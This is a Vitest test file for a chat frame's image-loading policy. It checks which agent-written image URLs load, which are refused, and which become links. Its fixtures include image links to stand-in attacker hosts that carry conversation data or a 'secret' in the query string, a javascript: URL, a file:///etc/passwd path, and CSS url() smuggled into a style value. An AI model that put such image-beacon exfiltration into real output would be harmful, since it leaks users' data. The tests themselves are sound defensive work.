// @vitest-environment happy-dom
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest'
import { h, render, type VNode } from 'preact'
import { act } from 'preact/test-utils'
import type { WidgetComponentData } from '@xpert-ai/chatkit-protocol'
import { MessageView } from '../message/MessageView.js'
import { WidgetItem } from '../widgets/Widget.js'
import { preloadMarkdown } from './Markdown.js'
import { Markdown } from './MarkdownView.js'
import { decideImage, MAX_DATA_IMAGE_CHARS, readImagePolicy, type ImagePolicy } from './urls.js'

const SELF = 'http://frame.test:8787'
const POLICY: ImagePolicy = { self: SELF, allowed: ['https://img.example.com', 'https://*.cdn.example.net'] }
const PNG = 'data:image/png;base64,iVBORw0KGgo='

describe('decideImage (the frame URL policy for agent-authored images)', () => {
  it('loads the frame origin, the operator origins (exact and wildcard subdomains) and small raster data:', () => {
    for (const url of [
      `${SELF}/chatkit/logo.png`,
      'https://img.example.com/a.png?x=1',
      'https://a.b.cdn.example.net/i.webp',
      ` ${PNG} `,
      'data:image/jpeg;base64,/9j/',
      'HTTPS://IMG.EXAMPLE.COM/A.PNG',
    ]) {
      expect(decideImage(url, POLICY), url).toEqual({ load: expect.any(String) })
    }
    expect(decideImage('HTTPS://IMG.EXAMPLE.COM/A.PNG', POLICY)).toEqual({ load: 'https://img.example.com/A.PNG' })
  })

  it('asks the user for http(s) images anywhere else, naming the host the browser would contact', () => {
    const cases: [string, string][] = [
      ['https://attacker.example/c.png?d=the%20conversation', 'attacker.example'],
      ['http://img.example.com/a.png', 'img.example.com'], // other scheme: another origin
      ['https://img.example.com:8443/a.png', 'img.example.com:8443'], // other port
      ['https://cdn.example.net/apex.png', 'cdn.example.net'], // a wildcard never matches the apex
      ['https://img.example.com.evil.test/a.png', 'img.example.com.evil.test'],
      ['https://user:pw@evil.test/a.png', 'evil.test'],
      ['https://еxample.com/a.png', 'xn--xample-2of.com'], // homograph: shown as punycode
      ['http://frame.test:8788/a.png', 'frame.test:8788'], // the frame's host on another port
    ]
    for (const [url, host] of cases) expect(decideImage(url, POLICY), url).toEqual({ ask: expect.any(String), host })
  })

  it('refuses other schemes, SVG and script data, relative URLs and oversized data:', () => {
    for (const url of [
      'javascript:alert(1)',
      'data:image/svg+xml;base64,PHN2Zz4=',
      'data:text/html,<b>',
      '/chatkit/a.png',
      '//evil.test/a.png',
      'a.png',
      'file:///etc/passwd',
      `blob:${SELF}/1234`,
      'ftp://evil.test/a.png',
      '',
    ]) {
      expect(decideImage(url, POLICY), url).toEqual({ refuse: 'url' })
    }
    const big = 'data:image/png;base64,' + 'A'.repeat(MAX_DATA_IMAGE_CHARS)
    expect(decideImage(big, POLICY)).toEqual({ refuse: 'size' })
    expect(decideImage(big.slice(0, MAX_DATA_IMAGE_CHARS), POLICY)).toEqual({ load: expect.any(String) })
  })

  it('reads the operator list from the page; a missing, malformed or wildcard-all list allows nothing extra', () => {
    const doc = document.implementation.createHTMLDocument('x')
    expect(readImagePolicy(doc, SELF)).toEqual({ self: SELF, allowed: [] })
    const meta = doc.createElement('meta')
    meta.name = 'chatkit-image-origins'
    doc.head.append(meta)
    for (const [content, allowed] of [
      ['https://img.example.com https://*.cdn.example.net', ['https://img.example.com', 'https://*.cdn.example.net']],
      ['*', []],
      ['* https://img.example.com', ['https://img.example.com']],
      ['https:', []],
      ['https://img.example.com javascript:x', []],
    ] as const) {
      meta.content = content
      expect(readImagePolicy(doc, SELF), content).toEqual({ self: SELF, allowed })
    }
  })
})

describe('every image channel follows the policy', () => {
  let root: HTMLElement
  const mount = (vnode: VNode<any>) => {
    root = document.createElement('div')
    document.body.append(root)
    act(() => render(vnode, root))
    return root
  }
  afterEach(() => {
    act(() => render(null, root))
    root.remove()
  })
  beforeAll(async () => {
    const meta = document.createElement('meta')
    meta.name = 'chatkit-image-origins'
    meta.content = 'https://img.example.com'
    document.head.append(meta)
    await preloadMarkdown()
  })
  const srcs = (el: Element) => [...el.querySelectorAll('img')].map((i) => i.getAttribute('src'))
  const asks = (el: Element) =>
    [...el.querySelectorAll('a.ck-image-ask')].map((a) => [a.getAttribute('href'), a.getAttribute('target'), a.getAttribute('rel'), a.textContent])

  it('markdown: allowed and data: images load; another origin is a link that opens in a new tab', () => {
    const el = mount(h(Markdown, { text: `![ok](https://img.example.com/a.png) ![b](${PNG}) ![leak](https://evil.test/c.png?d=secret) ![js](javascript:x)` }))
    expect(srcs(el)).toEqual(['https://img.example.com/a.png', PNG])
    expect(asks(el)).toEqual([
      ['https://evil.test/c.png?d=secret', '_blank', 'noopener noreferrer', 'leak — Image from evil.test, not loaded: open it in a new tab'],
    ])
    expect(el.querySelector('.ck-image-blocked')?.textContent).toBe('js')
  })

  it('widgets: Image nodes follow it, and no style can carry url()', () => {
    const widget = {
      type: 'Card',
      background: 'url(https://evil.test/bg.png)',
      children: [
        { type: 'Image', src: 'https://img.example.com/w.png', alt: 'ok' },
        { type: 'Image', src: 'https://evil.test/w.png?d=1', alt: 'leak' },
        { type: 'Box', background: 'red;background-image:url(https://evil.test/b.png)', children: [{ type: 'Text', value: 't' }] },
      ],
    }
    const el = mount(h(WidgetItem, { id: 'w', data: { category: 'Dashboard', type: 'Widget', widget } as WidgetComponentData, onAction: async () => {} }))
    expect(srcs(el)).toEqual(['https://img.example.com/w.png'])
    expect(asks(el).map((a) => a[0])).toEqual(['https://evil.test/w.png?d=1'])
    expect(el.innerHTML).not.toContain('url(')
  })

  it('message image parts and source favicons follow it (a favicon elsewhere is left out)', async () => {
    const message = {
      id: 'm',
      role: 'assistant' as const,
      status: 'done' as const,
      parts: [
        { type: 'image' as const, url: 'https://img.example.com/m.png' },
        { type: 'image' as const, url: 'https://evil.test/m.png' },
        {
          type: 'component' as const,
          id: 's',
          data: {
            category: 'Tool',
            type: 'web_search',
            status: 'success',
            output: {
              results: [
                { title: 'A', url: 'https://a.test/', favicon: 'https://img.example.com/fav-a.png' },
                { title: 'B', url: 'https://b.test/', favicon: 'https://evil.test/fav-b.png' },
                { title: 'C', url: 'https://c.test/', icon: PNG },
              ],
            },
          },
        },
      ],
    }
    const el = mount(h(MessageView, { message: message as never }))
    // Tool steps load on first use: wait for the step to be on screen.
    await expect.poll(() => el.querySelectorAll('details').length).toBeGreaterThan(0)
    for (const d of el.querySelectorAll('details')) {
      act(() => {
        ;(d as HTMLDetailsElement).open = true
        d.dispatchEvent(new Event('toggle'))
      })
    }
    // Loadable message images are a gallery, whose code loads on first use.
    await vi.waitFor(() => expect(el.querySelector('.ck-gallery img')).not.toBeNull())
    expect(srcs(el).sort()).toEqual(['https://img.example.com/m.png', 'https://img.example.com/fav-a.png', PNG].sort())
    expect(asks(el).map((a) => a[0])).toEqual(['https://evil.test/m.png'])
    expect([...el.querySelectorAll('.ck-tool-results a')].map((a) => a.getAttribute('href'))).toEqual(['https://a.test/', 'https://b.test/', 'https://c.test/'])
  })
})
